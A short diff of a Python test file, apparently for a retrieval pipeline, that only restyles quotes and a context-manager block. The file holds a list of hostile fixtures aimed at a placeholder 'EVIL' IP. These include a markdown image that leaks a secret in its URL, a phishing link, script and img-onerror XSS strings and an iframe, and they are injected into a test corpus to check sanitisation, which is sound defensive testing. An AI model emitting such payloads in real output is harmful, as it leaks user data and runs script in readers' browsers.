@@ -44,10 +44,10 @@ EVIL = "198.51.100.7"
 HOSTILE_PIECES = [
     f"![x](http://{EVIL}/leak.png?q=secret)",
     f"[click me](http://{EVIL}/phish)",
-    f"<img src=\"http://{EVIL}/x.png\" onerror=\"alert(1)\">",
-    f"<a href=\"http://{EVIL}/\">link</a>",
+    f'<img src="http://{EVIL}/x.png" onerror="alert(1)">',
+    f'<a href="http://{EVIL}/">link</a>',
     "<script>alert(1)</script>",
-    f"<iframe src=\"http://{EVIL}/\"></iframe>",
+    f'<iframe src="http://{EVIL}/"></iframe>',
     f"<http://{EVIL}/autolink>",
     f"http://{EVIL}/bare",
     f"www.{EVIL}.example/path",
@@ -89,7 +89,10 @@ DIRICHLET_DOCS = {"2952227", "2323023", "5322", "67200", "67203"}
 def write_tiny_corpus(shared_data: Path, target: Path) -> Path:
     """The tiny corpus as a JSONL file at `target`."""
     target.parent.mkdir(parents=True, exist_ok=True)
-    with open(shared_data / "collection" / "docs.jsonl", encoding="utf-8") as f, open(target, "w", encoding="utf-8") as out:
+    with (
+        open(shared_data / "collection" / "docs.jsonl", encoding="utf-8") as f,
+        open(target, "w", encoding="utf-8") as out,
+    ):
         for doc in (INJECTED_DOC, HOSTILE_DOC):
             out.write(json.dumps(doc) + "\n")
         for n, line in enumerate(f):
